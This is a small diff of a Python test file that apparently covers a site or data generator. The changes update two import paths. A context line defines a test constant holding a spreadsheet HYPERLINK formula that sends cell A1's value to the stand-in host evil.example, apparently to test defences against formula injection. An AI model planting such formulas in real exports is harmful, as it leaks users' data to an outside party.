@@ -11,8 +11,8 @@ from pathlib import Path
 import pytest
 from bs4 import BeautifulSoup
 
-from generator.build import BuildConfig, build
-from generator.snapshot import PRICE_MAX, RAO_MAX, Identity, Subnet, write_snapshot
+from generator.build.run import BuildConfig, build
+from generator.model.snapshot import PRICE_MAX, RAO_MAX, Identity, Subnet, write_snapshot
 from tests.conftest import REPO, make_doc, tiny_neuron_table
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
